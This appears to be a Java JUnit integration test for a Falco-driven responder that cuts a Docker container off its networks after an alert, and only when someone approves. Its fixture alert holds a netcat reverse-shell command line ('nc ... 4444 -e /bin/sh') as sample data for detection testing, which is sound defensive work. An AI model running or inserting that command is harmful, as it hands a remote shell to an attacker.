package io.hivesec.examples.embed;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.hivesec.alert.Outcome;
import io.hivesec.alert.Plan;
import io.hivesec.dispositions.engine.Engine;
import io.hivesec.dispositions.journal.Journal;
import io.hivesec.examples.DockerEngine;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Predicate;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What Falco prints of a reverse shell cuts off the container of a real engine, and only when somebody approves. */
final class FalcoGuardIT {
    private static final String SHELL = """
            {"rule":"Reverse shell","priority":"Critical","source":"syscall","time":"2026-01-02T03:04:05.678Z",\
            "output":"a reverse shell","output_fields":{"evt.type":"execve","proc.cmdline":"nc 203.0.113.9 4444 -e /bin/sh",\
            "proc.exepath":"/bin/nc","proc.name":"nc","proc.pid":70,"container.id":"%s","container.name":"web"}}
            """;

    @TempDir
    private Path directory;

    private DockerEngine docker;
    private String container;
    private Journal journal;

    @BeforeEach
    void start() throws IOException {
        docker = DockerEngine.get();
        container = docker.create("guarded", "{}");
        docker.post("/containers/" + container + "/start", "");
        journal = Journal.open(directory, new byte[0], Clock.systemUTC());
    }

    @AfterEach
    void remove() throws IOException {
        journal.close();
        docker.remove(container);
    }

    @Test
    void watch_approvedReverseShell_isolatesItsContainer() throws IOException {
        assertThat(networks()).isNotEmpty();
        assertThat(watch(plan -> true)).extracting(Outcome::state).containsExactly(Outcome.State.VERIFIED);
        assertThat(networks()).isEmpty();
    }

    @Test
    void watch_reverseShellThatNobodyApproves_changesNothing() throws IOException {
        List<Plan> shown = new ArrayList<>();
        assertThat(watch(plan -> {
                    shown.add(plan);
                    return false;
                }))
                .isEmpty();
        assertThat(shown).extracting(plan -> plan.target().id()).containsExactly(container);
        assertThat(networks()).isNotEmpty();
    }

    private List<Outcome> watch(Predicate<Plan> isApproved) throws IOException {
        List<Outcome> outcomes = new ArrayList<>();
        byte[] line = SHELL.formatted(container.substring(0, 12)).getBytes(StandardCharsets.UTF_8);
        try (FalcoGuard guard =
                new FalcoGuard(Engine.at("unix://" + docker.socket(), null), journal, isApproved, outcomes::add)) {
            guard.watch(new ByteArrayInputStream(line));
        }
        return outcomes;
    }

    private List<String> networks() throws IOException {
        JsonNode inspected = docker.get("/containers/" + container + "/json");
        List<String> names = new ArrayList<>();
        inspected.at("/NetworkSettings/Networks").fieldNames().forEachRemaining(names::add);
        return names;
    }
}
